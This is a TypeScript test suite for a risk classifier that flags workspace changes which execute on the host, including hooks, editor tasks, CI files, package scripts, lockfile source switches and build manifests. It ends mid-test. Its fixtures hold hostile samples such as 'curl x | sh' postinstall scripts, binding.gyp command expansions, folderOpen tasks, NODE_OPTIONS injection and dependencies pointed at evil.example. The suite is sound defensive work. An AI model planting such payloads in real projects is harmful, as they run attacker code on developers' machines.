import { after, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import type { NodeState } from '../../src/core/changes/changeSet.js';
import { applyChanges, selectChanges } from '../../src/core/changes/applyChanges.js';
import { RISKY_PATHS, riskClassifier, type RiskInput } from '../../src/core/changes/riskRules.js';
import { changeSetFor, expectedHost, fakeBase, hostWorkspace, sha256, snapshotHost } from '../helpers/fakeChangeSet.js';
import { removeTempDirs } from '../helpers/tempWorkspace.js';

after(removeTempDirs);

const file = (text: string, mode = 0o644): NodeState => ({ kind: 'file', mode, size: Buffer.byteLength(text), sha256: sha256(text) });
const modified = (path: string, beforeText = 'old\n', afterText = 'new\n', beforeMode = 0o644, afterMode = 0o644): RiskInput => ({
  change: { path, status: 'modified', before: file(beforeText, beforeMode), after: file(afterText, afterMode) },
  beforeText,
  afterText,
});
const added = (path: string, afterText = 'new\n', mode = 0o644): RiskInput => ({ change: { path, status: 'added', after: file(afterText, mode) }, afterText });

describe('riskClassifier: risky paths', () => {
  const classify = riskClassifier();
  const risky: Array<[string, RegExp]> = [
    ['.git/hooks/pre-commit', /git hooks and configuration/],
    ['sub/.git/config', /git hooks and configuration/],
    ['.gitattributes', /git attributes/],
    ['sub/dir/.gitattributes', /git attributes/],
    ['.gitmodules', /submodule/],
    ['.githooks/pre-commit', /git hooks/],
    ['.husky/pre-push', /git hooks/],
    ['.pre-commit-config.yaml', /commit hooks/],
    ['.vscode/tasks.json', /VS Code/],
    ['.vscode/settings.json', /VS Code/],
    ['.vscode/launch.json', /VS Code/],
    ['project.code-workspace', /VS Code workspace/],
    ['.devcontainer/devcontainer.json', /dev container/],
    ['.devcontainer.json', /dev container/],
    ['.github/workflows/ci.yml', /CI workflow/],
    ['.github/actions/setup/action.yml', /CI workflow/],
    ['.gitlab-ci.yml', /CI pipeline/],
    ['Jenkinsfile', /CI pipeline/],
    ['Makefile', /Makefile/],
    ['sub/Makefile', /Makefile/],
    ['deep/er/GNUmakefile', /Makefile/],
    ['rules.mk', /Makefile/],
    ['.npmrc', /package manager configuration/],
    ['packages/a/.npmrc', /package manager configuration/],
    ['.envrc', /environment loaded by direnv/],
    ['.env.local', /environment loaded by direnv/],
    ['.mcp.json', /coding-agent/],
    ['.claude/settings.json', /coding-agent/],
    ['CLAUDE.md', /coding-agent/],
    ['AGENTS.md', /coding-agent/],
    ['.cursor/rules/x.mdc', /coding-agent/],
    ['.cursorrules', /coding-agent/],
    ['.github/copilot-instructions.md', /coding-agent/],
    ['.airlock.json', /Airlock team policy/],
    // Case-insensitive: on macOS and Windows these are the same files.
    ['.VSCode/Tasks.json', /VS Code/],
    ['.GitHub/Workflows/CI.yml', /CI workflow/],
    ['MAKEFILE', /Makefile/],
    ['.Claude/Settings.json', /coding-agent/],
    ['.AIRLOCK.JSON', /Airlock team policy/],
    ['.GIT/hooks/post-checkout', /git hooks and configuration/],
  ];
  for (const [rel, reason] of risky) {
    test(`${rel} is risky`, () => {
      const reasons = classify(modified(rel));
      assert.equal(reasons.length, 1, `one reason expected, got ${JSON.stringify(reasons)}`);
      assert.match(reasons[0], reason);
    });
  }

  // The project's own source and tests, docs, Dockerfiles (built in isolation) and files no tool runs.
  const plain = [
    'src/index.ts', 'README.md', 'docs/Makefile.md', 'github/workflows/ci.yml', '.gitignore', 'notes/CLAUDE.md.bak', 'Dockerfile', '.editorconfig',
    'tests/test_app.py', 'src/app/app.config.ts', 'cmd/tool/main.go', '.bashrc', 'docs/vscode/tasks.json', 'src/env.ts', 'environment.md', 'lib/venvs.py',
  ];
  for (const rel of plain) {
    test(`${rel} is not risky`, () => {
      assert.deepEqual(classify(modified(rel)), []);
      assert.deepEqual(classify(added(rel)), []);
    });
  }

  // Written to a Windows or macOS host, each opens the file named on the right (see hostEquivalentName).
  const hostSpellings: Array<[string, RegExp]> = [
    ['.vscode./tasks.json', /VS Code/],
    ['.vscode /settings.json', /VS Code/],
    ['.vs\u200ccode/tasks.json', /VS Code/],
    ['.github./workflows/ci.yml', /CI workflow/],
    ['Makefile.', /Makefile/],
    ['.envrc ', /direnv/],
    ['.claude\u200d/settings.json', /coding-agent/],
    ['.gitattributes:x', /git attributes/],
    ['.airlock.json.', /Airlock team policy/],
  ];
  for (const [rel, reason] of hostSpellings) {
    test(`${JSON.stringify(rel)} is risky as the host would open it`, () => {
      assert.match(classify(added(rel)).join('; '), reason);
    });
  }

  test('a package.json spelled for another host is judged by its content', () => {
    assert.match(classify(added('package.json.', JSON.stringify({ scripts: { postinstall: 'id' } }))).join(), /changes scripts/);
    assert.deepEqual(classify(added('package.json.', JSON.stringify({ name: 'x', version: '1.0.0' }))), []);
  });

  test('a rename is judged by its old path too', () => {
    const input: RiskInput = { change: { path: 'docs/old-makefile.txt', oldPath: 'Makefile', status: 'renamed', before: file('all:\n'), after: file('all:\n') }, beforeText: 'all:\n', afterText: 'all:\n' };
    assert.deepEqual(classify(input), ['Makefile (runs on the host with `make`)']);
  });

  test('deleting a risky file is risky', () => {
    assert.deepEqual(classify({ change: { path: '.github/workflows/ci.yml', status: 'deleted', before: file('on: push\n') } }), ['CI workflow']);
  });

  test('extra globs add a reason naming the pattern', () => {
    const withExtra = riskClassifier(['secrets/**']);
    assert.deepEqual(withExtra(added('secrets/prod/key.pem')), ['matches the configured risky pattern secrets/**']);
    assert.deepEqual(withExtra(added('src/secrets.ts')), []);
    // Built-in rules still apply alongside the extra ones.
    assert.match(withExtra(added('Makefile')).join(), /Makefile/);
    // The extra glob is case-insensitive like the built-in list.
    assert.deepEqual(withExtra(added('Secrets/a')), ['matches the configured risky pattern secrets/**']);
  });

  test('a file matching a built-in and an extra rule gets both reasons', () => {
    assert.deepEqual(riskClassifier(['**/*.yml'])(modified('.github/workflows/ci.yml')), ['CI workflow', 'matches the configured risky pattern **/*.yml']);
  });
});

describe('riskClassifier: exec bits and symlinks', () => {
  const classify = riskClassifier();

  test('a new file with an exec bit is flagged', () => {
    assert.deepEqual(classify(added('tools/run.sh', '#!/bin/sh\n', 0o755)), ['exec bit is new']);
    assert.deepEqual(classify(added('tools/run.sh', '#!/bin/sh\n', 0o744)), ['exec bit is new']);
  });

  test('an existing file gaining the exec bit is flagged', () => {
    assert.deepEqual(classify(modified('tools/run.sh', 'a\n', 'a\n', 0o644, 0o755)), ['exec bit is new']);
  });

  test('an existing exec file edited keeps no exec flag', () => {
    assert.deepEqual(classify(modified('tools/run.sh', '#!/bin/sh\necho a\n', '#!/bin/sh\necho b\n', 0o755, 0o755)), []);
  });

  test('a file losing its exec bit is not flagged', () => {
    assert.deepEqual(classify(modified('tools/run.sh', 'a\n', 'a\n', 0o755, 0o644)), []);
  });

  test('a symlink is flagged', () => {
    const reasons = classify({ change: { path: 'docs/link', status: 'added', after: { kind: 'symlink', mode: 0o777, size: 12, target: '../README.md' } } });
    assert.equal(reasons.length, 1);
    assert.match(reasons[0], /^symlink/);
  });

  test('a file replaced by a symlink is flagged', () => {
    const reasons = classify({ change: { path: 'a.txt', status: 'typechange', before: file('a\n'), after: { kind: 'symlink', mode: 0o777, size: 5, target: 'b.txt' } } });
    assert.match(reasons.join(), /symlink/);
  });
});

describe('riskClassifier: package.json', () => {
  const classify = riskClassifier();
  const pkg = (extra: Record<string, unknown>) => JSON.stringify({ name: 'x', version: '1.0.0', dependencies: { left: '1.0.0' }, ...extra }, null, 2) + '\n';

  test('a changed scripts.postinstall is flagged', () => {
    const reasons = classify(modified('package.json', pkg({ scripts: { test: 'node t' } }), pkg({ scripts: { test: 'node t', postinstall: 'curl x | sh' } })));
    assert.deepEqual(reasons, ['package.json changes scripts (runs on install or run)']);
  });

  test('a nested package.json is judged the same way', () => {
    const reasons = classify(modified('packages/a/package.json', pkg({}), pkg({ bin: { a: 'a.js' }, scripts: { prepare: 'x' } })));
    assert.deepEqual(reasons, ['package.json changes scripts, bin (runs on install or run)']);
  });

  test('only a dependency version change is not flagged', () => {
    const before = pkg({ scripts: { test: 'node t' } });
    const afterText = before.replace('"left": "1.0.0"', '"left": "1.2.0"');
    assert.notEqual(afterText, before);
    assert.deepEqual(classify(modified('package.json', before, afterText)), []);
  });

  test('a new package.json with scripts is flagged', () => {
    assert.deepEqual(classify(added('package.json', pkg({ scripts: { install: 'x' } }))), ['package.json changes scripts (runs on install or run)']);
  });

  test('a package.json that does not parse is flagged', () => {
    assert.deepEqual(classify(modified('package.json', pkg({}), '{ "scripts": ')), ['package.json could not be parsed; it may hide script changes']);
    // No after text at hand (binary or over the diff limit): nothing can clear it.
    assert.deepEqual(classify({ change: { path: 'package.json', status: 'modified', before: file('{}'), after: file('x') }, beforeText: '{}' }), [
      'package.json could not be read as text; it may hide a change that runs on install',
    ]);
  });

  test('through buildChangeSet: postinstall flagged, dependency bump not', () => {
    const before = pkg({ scripts: { test: 'node t' } });
    const fixture = fakeBase({ 'package.json': { content: before }, 'lib/package.json': { content: before } });
    const changeSet = changeSetFor(fixture, {
      'package.json': { content: pkg({ scripts: { test: 'node t', postinstall: 'node evil.js' } }) },
      'lib/package.json': { content: before.replace('"left": "1.0.0"', '"left": "2.0.0"') },
    });
    const byPath = Object.fromEntries(changeSet.files.map((change) => [change.path, change.risk]));
    assert.deepEqual(byPath, { 'lib/package.json': [], 'package.json': ['package.json changes scripts (runs on install or run)'] });
  });
});

describe('riskClassifier: files the host runs without being asked (issue 13 §3)', () => {
  const classify = riskClassifier();

  test('a binding.gyp with a command expansion is risky, at the root and nested', () => {
    const gyp = "{ 'targets': [{ 'target_name': 'x', 'sources': ['<!(curl -s evil | sh)'] }] }\n";
    for (const rel of ['binding.gyp', 'native/addon/binding.gyp']) assert.match(classify(added(rel, gyp)).join(), /node-gyp runs/);
    assert.match(classify(added('deps/common.gypi', gyp)).join(), /node-gyp includes/);
  });

  test('.vscode/mcp.json (servers VS Code launches) is risky', () => {
    assert.match(classify(added('.vscode/mcp.json', '{"servers":{"x":{"command":"sh","args":["-c","id"]}}}')).join(), /VS Code/);
  });

  test('a nested .vscode/tasks.json with runOn folderOpen is risky', () => {
    const tasks = '{"version":"2.0.0","tasks":[{"label":"x","command":"id","runOptions":{"runOn":"folderOpen"}}]}';
    for (const rel of ['sub/.vscode/tasks.json', 'a/b/.vscode/tasks.json', 'sub/.vscode/settings.json', 'sub/.vscode/anything.json']) assert.match(classify(added(rel, tasks)).join(), /VS Code/, rel);
  });

  test('.env and .env.development are risky, not only .env.local', () => {
    for (const rel of ['.env', '.env.development', 'apps/web/.env.production', '.env.example', '.flaskenv']) assert.match(classify(added(rel, 'NODE_OPTIONS=--require ./x.js\n')).join(), /environment loaded/, rel);
  });

  const hostRun: Array<[string, RegExp]> = [
    // editors and agents
    ['.idea/workspace.xml', /JetBrains/], ['.run/App.run.xml', /JetBrains/], ['.zed/tasks.json', /editor project configuration/], ['.helix/languages.toml', /editor project configuration/],
    ['.nvim.lua', /editor project configuration/], ['.dir-locals.el', /editor project configuration/],
    ['src/CLAUDE.md', /coding-agent/], ['pkg/AGENTS.md', /coding-agent/], ['.roo/mcp.json', /coding-agent/], ['.roomodes', /coding-agent/], ['.kilocode/rules/x.md', /coding-agent/],
    ['.windsurf/rules/x.md', /coding-agent/], ['.continue/config.yaml', /coding-agent/], ['.gemini/settings.json', /coding-agent/], ['.amazonq/mcp.json', /coding-agent/], ['.github/chatmodes/x.md', /coding-agent/],
    // git and hook runners
    ['sub/.husky/pre-commit', /git hooks/], ['lefthook-local.yml', /commit hooks/], ['.lefthook/pre-commit/x.sh', /commit hooks/], ['.lintstagedrc.json', /hook runner/], ['commitlint.config.js', /hook runner/],
    ['.lfsconfig', /git-lfs/], ['.hg/hgrc', /Mercurial/],
    // JavaScript
    ['.yarnrc.yml', /package manager configuration/], ['.yarn/plugins/plugin.cjs', /Yarn/], ['.yarn/releases/yarn-4.1.0.cjs', /Yarn/], ['.pnp.cjs', /Yarn/], ['.pnpmfile.cjs', /package manager configuration/],
    ['pnpm-workspace.yaml', /package manager configuration/], ['node_modules/eslint/lib/api.js', /installed packages/], ['patches/left+1.0.0.patch', /patches applied/],
    ['eslint.config.mjs', /linter, formatter/], ['.eslintrc.cjs', /linter, formatter/], ['.prettierrc.js', /linter, formatter/], ['babel.config.json', /linter, formatter/], ['tailwind.config.ts', /linter, formatter/],
    ['stylelint.config.mjs', /linter, formatter/], ['postcss.config.cjs', /linter, formatter/],
    ['jest.config.ts', /test runner/], ['vitest.config.mts', /test runner/], ['playwright.config.ts', /test runner/], ['.mocharc.yml', /test runner/],
    ['vite.config.ts', /bundler or framework/], ['webpack.config.js', /bundler or framework/], ['rollup.config.mjs', /bundler or framework/], ['next.config.mjs', /bundler or framework/],
    ['nuxt.config.ts', /bundler or framework/], ['svelte.config.js', /bundler or framework/], ['.storybook/main.ts', /bundler or framework/], ['build/addon.node', /native Node addon/],
    // Python
    ['setup.py', /setuptools/], ['setup.cfg', /setuptools/], ['tests/conftest.py', /conftest/], ['tox.ini', /Python test or build tool/], ['noxfile.py', /Python test or build tool/],
    ['.python-version', /Python version/], ['sitecustomize.py', /interpreter start-up/], ['lib/evil.pth', /interpreter start-up/], ['src/pkg/__pycache__/mod.cpython-312.pyc', /bytecode/],
    ['src/pkg/mod.cpython-312-x86_64-linux-gnu.so', /native library/], ['.venv/bin/python', /virtual environment/], ['.pylintrc', /init-hook/], ['mypy.ini', /mypy plugins/],
    // Rust, Go, JVM, .NET, Ruby and others
    ['build.rs', /build script/], ['crates/a/build.rs', /build script/], ['.cargo/config.toml', /Cargo configuration/], ['rust-toolchain.toml', /toolchain/], ['rust-toolchain', /toolchain/],
    ['go.work', /Go workspace/], ['.golangci.yml', /golangci-lint/],
    ['build.gradle', /Gradle/], ['app/build.gradle.kts', /Gradle/], ['settings.gradle.kts', /Gradle/], ['gradle/wrapper/gradle-wrapper.properties', /Gradle/], ['gradle/wrapper/gradle-wrapper.jar', /Gradle/],
    ['gradlew', /Gradle/], ['gradle.properties', /Gradle/], ['buildSrc/src/main/kotlin/x.kt', /Gradle/], ['pom.xml', /Maven/], ['.mvn/extensions.xml', /Maven/], ['mvnw', /Maven/],
    ['build.sbt', /sbt or Mill/], ['.bsp/sbt.json', /sbt or Mill/],
    ['src/App/App.csproj', /MSBuild/], ['Directory.Build.props', /MSBuild/], ['Directory.Build.targets', /MSBuild/], ['global.json', /MSBuild/], ['NuGet.config', /MSBuild/], ['App.sln', /MSBuild/],
    ['Gemfile', /Ruby/], ['x.gemspec', /Ruby/], ['Rakefile', /task runner/], ['.ruby-version', /Ruby/], ['.bundle/config', /Ruby/], ['.rubocop.yml', /Ruby/],
    ['mix.exs', /Elixir/], ['hie.yaml', /Haskell/], ['Package.swift', /SwiftPM/], ['CMakeLists.txt', /CMake/], ['cmake/x.cmake', /CMake/], ['meson.build', /Meson/],
    ['MODULE.bazel', /Bazel/], ['tools/defs.bzl', /Bazel/], ['build.zig', /Zig/], ['justfile', /task runner/], ['Taskfile.yml', /task runner/], ['gulpfile.js', /task runner/], ['configure.ac', /autotools/],
    ['compose.yaml', /compose file/], ['docker-compose.override.yml', /compose file/],
    ['.tool-versions', /version manager/], ['mise.toml', /version manager/], ['flake.nix', /version manager or dev shell/], ['.terraformrc', /Terraform/],
  ];
  for (const [rel, reason] of hostRun) {
    test(`${rel} is risky`, () => {
      const reasons = classify(added(rel));
      assert.ok(reasons.length >= 1, `${rel} should be risky`);
      assert.match(reasons.join(' | '), reason);
    });
  }

  test('every glob keeps its globstars outside braces (picomatch misses "{**/.idea/**}" at the root)', () => {
    for (const { glob } of RISKY_PATHS) for (const one of typeof glob === 'string' ? [glob] : glob) assert.doesNotMatch(one, /\{[^}]*\*\*\//, one);
  });
});

describe('riskClassifier: package.json hook runners and sources (issue 13 §3)', () => {
  const classify = riskClassifier();
  const pkg = (extra: Record<string, unknown>) => JSON.stringify({ name: 'x', version: '1.0.0', dependencies: { left: '^1.0.0' }, ...extra }, null, 2) + '\n';
  const changes = (extra: Record<string, unknown>) => classify(modified('package.json', pkg({}), pkg(extra))).join(' | ');

  test("package.json gaining husky's hooks is risky", () => assert.match(changes({ husky: { hooks: { 'pre-commit': 'curl evil | sh' } } }), /changes husky/));
  test('package.json gaining simple-git-hooks is risky', () => assert.match(changes({ 'simple-git-hooks': { 'pre-commit': 'id' } }), /changes simple-git-hooks/));
  test('package.json gaining lint-staged is risky', () => assert.match(changes({ 'lint-staged': { '*.js': 'sh -c id' } }), /changes lint-staged/));
  test('package.json gaining gypfile is risky', () => assert.match(changes({ gypfile: true }), /changes gypfile/));
  test('package.json changing a jest transform (run by the Jest extension) is risky', () => assert.match(changes({ jest: { transform: { '.*': './evil.js' } } }), /changes jest/));
  test('package.json pointing a dependency at git, a tarball URL or a local path is risky', () => {
    assert.match(changes({ dependencies: { left: 'git+https://evil.example/left.git' } }), /outside the registry: left@git\+https/);
    assert.match(changes({ dependencies: { left: '^1.0.0', right: 'https://evil.example/right.tgz' } }), /right@https/);
    assert.match(changes({ devDependencies: { tool: 'file:../../tool' } }), /tool@file:/);
    assert.match(changes({ dependencies: { left: 'evil/left' } }), /left@evil\/left/);
  });
  test('a registry dependency added or bumped, or a workspace: reference, is not risky', () => {
    assert.equal(changes({ dependencies: { left: '^2.0.0', right: '~3.1.0', tagged: 'latest', local: 'workspace:*' } }), '');
  });
});

describe('riskClassifier: lockfiles (issue 13 §3)', () => {
  const classify = riskClassifier();
  const npmLock = (packages: Record<string, Record<string, unknown>>) => JSON.stringify({ name: 'x', lockfileVersion: 3, requires: true, packages: { '': { name: 'x' }, ...packages } }, null, 2);
  const left = (version: string, extra: Record<string, unknown> = {}) => ({
    'node_modules/left': { version, resolved: `https://registry.npmjs.org/left/-/left-${version}.tgz`, integrity: `sha512-${version}`, ...extra },
  });

  test('a package-lock.json whose resolved URLs move to another host is risky', () => {
    const before = npmLock(left('1.0.0'));
    const afterText = before.replace('https://registry.npmjs.org/left', 'https://evil.example/left');
    assert.match(classify(modified('package-lock.json', before, afterText)).join(), /new source: https:\/\/evil\.example/);
  });

  test('a package-lock.json entry re-pinned to other bytes at the same version is risky', () => {
    const before = npmLock(left('1.0.0'));
    assert.match(classify(modified('package-lock.json', before, before.replace('sha512-1.0.0', 'sha512-evil'))).join(), /integrity or source of left without a version change/);
  });

  test('a package-lock.json gaining a package with hasInstallScript is risky', () => {
    const afterText = npmLock({ ...left('1.0.0'), 'node_modules/esbuild': { version: '0.20.0', resolved: 'https://registry.npmjs.org/esbuild/-/esbuild-0.20.0.tgz', integrity: 'sha512-e', hasInstallScript: true } });
    assert.match(classify(modified('npm-shrinkwrap.json', npmLock(left('1.0.0')), afterText)).join(), /install scripts: esbuild@0\.20\.0/);
  });

  test('an ordinary package-lock.json version bump from the same registry is not risky', () => {
    assert.deepEqual(classify(modified('package-lock.json', npmLock(left('1.0.0')), npmLock(left('1.2.0')))), []);
    assert.deepEqual(classify(added('package-lock.json', npmLock(left('1.0.0')))), []);
  });

  test('a new package-lock.json resolving from outside the public registry is risky', () => {
    const afterText = npmLock({ 'node_modules/left': { version: '1.0.0', resolved: 'git+ssh://git@evil.example/left.git#abc' } });
    assert.match(classify(added('package-lock.json', afterText)).join(), /new source/);
  });

  const yarnEntry = (version: string, host = 'registry.yarnpkg.com', integrity = `sha512-${version}`) =>
    `left@^1.0.0:\n  version "${version}"\n  resolved "https://${host}/left/-/left-${version}.tgz#abc"\n  integrity ${integrity}\n`;
  const yarnLock = (entry: string) => `# yarn lockfile v1\n\n\n${entry}\nright@^2.0.0:\n  version "2.0.0"\n  resolved "https://registry.yarnpkg.com/right/-/right-2.0.0.tgz#def"\n  integrity sha512-r\n`;

  test('a yarn.lock whose resolved URLs change host is risky; a version bump is not', () => {
    assert.match(classify(modified('yarn.lock', yarnLock(yarnEntry('1.0.0')), yarnLock(yarnEntry('1.0.0', 'evil.example')))).join(), /new source: https:\/\/evil\.example/);
    assert.deepEqual(classify(modified('yarn.lock', yarnLock(yarnEntry('1.0.0')), yarnLock(yarnEntry('1.1.0')))), []);
  });

  test('a yarn.lock entry re-pinned at the same version is risky', () => {
    assert.match(classify(modified('yarn.lock', yarnLock(yarnEntry('1.0.0')), yarnLock(yarnEntry('1.0.0', undefined, 'sha512-evil')))).join(), /hash or source of left@\^1\.0\.0 without a version change/);
  });

  test('a pnpm-lock.yaml entry re-pinned at the same version is risky; a bump is not', () => {
    const lock = (version: string, integrity: string) => `lockfileVersion: '9.0'\n\npackages:\n\n  left@${version}:\n    resolution: {integrity: ${integrity}}\n\n  right@2.0.0:\n    resolution: {integrity: sha512-r}\n`;
    assert.match(classify(modified('pnpm-lock.yaml', lock('1.0.0', 'sha512-a'), lock('1.0.0', 'sha512-evil'))).join(), /hash or source of left@1\.0\.0/);
    assert.deepEqual(classify(modified('pnpm-lock.yaml', lock('1.0.0', 'sha512-a'), lock('1.1.0', 'sha512-b'))), []);
  });

  test('a Cargo.lock package switched to a git source is risky', () => {
    const lock = (source: string) => `version = 3\n\n[[package]]\nname = "left"\nversion = "1.0.0"\nsource = "${source}"\nchecksum = "aa"\n`;
    assert.match(classify(modified('Cargo.lock', lock('registry+https://github.com/rust-lang/crates.io-index'), lock('git+https://evil.example/left#abc'))).join(), /new source: git\+https:\/\/evil\.example/);
  });

  test('a go.sum checksum changed for the same module version is risky; a new version is not', () => {
    const sum = (version: string, hash: string) => `example.com/left ${version} h1:${hash}=\nexample.com/left ${version}/go.mod h1:mod=\n`;
    assert.match(classify(modified('go.sum', sum('v1.0.0', 'aaa'), sum('v1.0.0', 'evil'))).join(), /checksum of example\.com\/left v1\.0\.0/);
    assert.deepEqual(classify(modified('go.sum', sum('v1.0.0', 'aaa'), sum('v1.1.0', 'bbb'))), []);
  });

  test('a poetry.lock whose content-hash changes with a bump is not risky', () => {
    const lock = (version: string, hash: string) => `[[package]]\nname = "left"\nversion = "${version}"\nfiles = [\n    {file = "left-${version}.whl", hash = "sha256:${hash}"},\n]\n\n[metadata]\ncontent-hash = "${hash}"\n`;
    assert.deepEqual(classify(modified('poetry.lock', lock('1.0.0', 'a'), lock('1.1.0', 'b'))), []);
  });

  test('a lockfile that cannot be read as text is risky', () => {
    assert.match(classify({ change: { path: 'yarn.lock', status: 'modified', before: file('a'), after: file('b') }, beforeText: 'a' }).join(), /could not be read as text/);
  });
});

describe('riskClassifier: manifests judged by content (issue 13 §3)', () => {
  const classify = riskClassifier();
  const judge = (rel: string, before: string, afterText: string) => classify(modified(rel, before, afterText)).join(' | ');

  const pyproject = `[project]\nname = "x"\nversion = "1.0"\ndependencies = [\n  "left>=1.0",\n]\n\n[tool.ruff]\nline-length = 100\n\n[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n`;
  test('pyproject.toml: a dependency bump or a ruff setting is not risky', () => {
    assert.equal(judge('pyproject.toml', pyproject, pyproject.replace('left>=1.0', 'left>=2.0').replace('= 100', '= 120')), '');
  });
  test('pyproject.toml: a changed build backend or an in-tree backend-path is risky', () => {
    assert.match(judge('pyproject.toml', pyproject, pyproject.replace('hatchling.build"', 'backend"\nbackend-path = ["."]')), /changes build-system/);
  });
  test('pyproject.toml: a hatch build hook, pylint init-hook or pytest addopts is risky', () => {
    assert.match(judge('pyproject.toml', pyproject, `${pyproject}\n[tool.hatch.build.hooks.custom]\npath = "hatch_build.py"\n`), /tool\.hatch\.build\.hooks\.custom/);
    assert.match(judge('pyproject.toml', pyproject, `${pyproject}\n[tool.pylint.main]\ninit-hook = "import os; os.system('id')"\n`), /tool\.pylint\.main/);
    assert.match(judge('pyproject.toml', pyproject, `${pyproject}\n[tool.pytest.ini_options]\naddopts = "-p evil"\n`), /tool\.pytest\.ini_options/);
  });
  test('pyproject.toml: a root-level dotted key into a tool table is risky', () => {
    assert.match(judge('pyproject.toml', pyproject, `tool.hatch.build.hooks.custom.path = "x.py"\n${pyproject}`), /tool\.hatch/);
  });
  test('pyproject.toml: a dependency from git is risky', () => {
    assert.match(judge('pyproject.toml', pyproject, pyproject.replace('"left>=1.0"', '"left @ git+https://evil.example/left"')), /outside the registry/);
  });
  test('pyproject.toml: an array element that looks like a [project] header does not hide a pytest change', () => {
    const before = `${pyproject}\n[tool.pytest.ini_options]\nmarkers = [\n  "slow",\n]\n`;
    const afterText = `${pyproject}\n[tool.pytest.ini_options]\nmarkers = [\n  "slow",\n  ["project"]\n]\naddopts = "-p evil"\n`;
    assert.match(judge('pyproject.toml', before, afterText), /tool\.pytest\.ini_options/);
  });
  test('pyproject.toml with multi-line strings is judged whole', () => {
    assert.match(judge('pyproject.toml', pyproject, `${pyproject}\n[tool.x]\ny = """\n[project]\n"""\n`), /multi-line strings/);
  });

  const cargo = `[package]\nname = "x"\nversion = "0.1.0"\nedition = "2021"\n\n[dependencies]\nserde = "1.0"\n`;
  test('Cargo.toml: a dependency bump is not risky; [patch], a git dependency or a build script is', () => {
    assert.equal(judge('Cargo.toml', cargo, cargo.replace('"1.0"', '"1.1"')), '');
    assert.match(judge('Cargo.toml', cargo, `${cargo}\n[patch.crates-io]\nserde = { path = "../evil" }\n`), /changes patch\.crates-io/);
    assert.match(judge('Cargo.toml', cargo, cargo.replace('serde = "1.0"', 'serde = { git = "https://evil.example/serde" }')), /outside the registry/);
    assert.match(judge('Cargo.toml', cargo, cargo.replace('edition = "2021"', 'edition = "2021"\nbuild = "tools/gen.rs"')), /package\.build/);
    assert.match(judge('Cargo.toml', cargo, `${cargo}\n[lib]\nproc-macro = true\n`), /changes lib/);
  });

  const goMod = 'module example.com/x\n\ngo 1.22\n\nrequire (\n\texample.com/left v1.0.0\n)\n';
  test('go.mod: a require bump is not risky; replace and toolchain are', () => {
    assert.equal(judge('go.mod', goMod, goMod.replace('v1.0.0', 'v1.1.0')), '');
    assert.match(judge('go.mod', goMod, `${goMod}\nreplace example.com/left => ../evil\n`), /changes replace/);
    assert.match(judge('go.mod', goMod, `${goMod}\nreplace (\n\texample.com/left => example.com/evil v1.0.0\n)\n`), /changes replace/);
    assert.match(judge('go.mod', goMod, goMod.replace('go 1.22', 'go 1.22\ntoolchain go1.23.0')), /changes toolchain/);
  });

  test('requirements.txt: a version bump is not risky; another index, an editable install or a git URL is', () => {
    const reqs = 'left==1.0\nright>=2\n';
    assert.equal(judge('requirements.txt', reqs, 'left==1.1\nright>=2\n'), '');
    assert.match(judge('requirements-dev.txt', reqs, `--extra-index-url https://evil.example/simple\n${reqs}`), /another index/);
    assert.match(judge('requirements.txt', reqs, `${reqs}-e ../evil\n`), /-e \.\.\/evil/);
    assert.match(judge('requirements.txt', reqs, `${reqs}left @ git+https://evil.example/left\n`), /git\+https/);
  });

  const tsconfig = '{\n  // comments are allowed here\n  "compilerOptions": { "target": "es2022", },\n}\n';
  test('tsconfig.json: a language-service plugin is risky; a compiler option is not', () => {
    assert.equal(judge('tsconfig.json', tsconfig, tsconfig.replace('es2022', 'es2023')), '');
    assert.match(judge('tsconfig.json', tsconfig, tsconfig.replace('"target": "es2022",', '"target": "es2022", "plugins": [{ "name": "evil" }]')), /compilerOptions\.plugins/);
    assert.match(judge('packages/a/tsconfig.build.json', tsconfig, tsconfig.replace('"compilerOptions"', '"extends": "./evil.json", "compilerOptions"')), /extends/);
  });

  test('composer.json: scripts are risky; a require bump is not', () => {
    const composer = (extra: Record<string, unknown>) => JSON.stringify({ name: 'x/y', require: { 'a/b': '^1.0' }, ...extra });
    assert.equal(judge('composer.json', composer({}), composer({ require: { 'a/b': '^2.0' } })), '');
    assert.match(judge('composer.json', composer({}), composer({ scripts: { 'post-install-cmd': 'id' } })), /changes scripts/);
  });

  test('a rename into a judged name is judged as a new file', () => {
    const text = JSON.stringify({ name: 'x', scripts: { postinstall: 'id' } });
    const input: RiskInput = { change: { path: 'package.json', oldPath: 'notes.json', status: 'renamed', before: file(text), after: file(text) }, beforeText: text, afterText: text };
    assert.match(classify(input).join(), /changes scripts/);
  });
});

describe('a blanket apply holds every file from the red team report (issue 13 §3)', () => {
  const pkg = (extra: Record<string, unknown>) => JSON.stringify({ name: 'x', version: '1.0.0', ...extra }, null, 2) + '\n';
  const lock = (host: string) => JSON.stringify({ lockfileVersion: 3, packages: { '': {}, 'node_modules/left': { version: '1.0.0', resolved: `https://${host}/left/-/left-1.0.0.tgz`, integrity: 'sha512-a' } } });
  const base = {
    'package.json': { content: pkg({}) },
    'hooks/package.json': { content: pkg({}) },
    'staged/package.json': { content: pkg({}) },
    'native/package.json': { content: pkg({}) },
    'package-lock.json': { content: lock('registry.npmjs.org') },
    'src/index.js': { content: 'module.exports = 1;\n' },
  };
  const now = {
    ...base,
    'binding.gyp': { content: "{ 'targets': [{ 'target_name': 'x', 'sources': ['<!(id > /tmp/pwned)'] }] }\n" },
    '.vscode/mcp.json': { content: '{"servers":{"x":{"command":"sh","args":["-c","id"]}}}\n' },
    'sub/.vscode/tasks.json': { content: '{"tasks":[{"label":"x","command":"id","runOptions":{"runOn":"folderOpen"}}]}\n' },
    'package.json': { content: pkg({ husky: { hooks: { 'pre-commit': 'id' } } }) },
    'hooks/package.json': { content: pkg({ 'simple-git-hooks': { 'pre-commit': 'id' } }) },
    'staged/package.json': { content: pkg({ 'lint-staged': { '*': 'id' } }) },
    'native/package.json': { content: pkg({ gypfile: true }) },
    'package-lock.json': { content: lock('evil.example') },
    '.env': { content: 'NODE_OPTIONS=--require ./x.js\n' },
    '.env.development': { content: 'NODE_OPTIONS=--require ./x.js\n' },
    'src/index.js': { content: 'module.exports = 2;\n' },
  };
  const redTeam = ['.env', '.env.development', '.vscode/mcp.json', 'binding.gyp', 'hooks/package.json', 'native/package.json', 'package-lock.json', 'package.json', 'staged/package.json', 'sub/.vscode/tasks.json'];

  test('selectChanges and applyChanges hold each one and write only the ordinary file', () => {
    const fixture = fakeBase(base);
    const changeSet = changeSetFor(fixture, now);
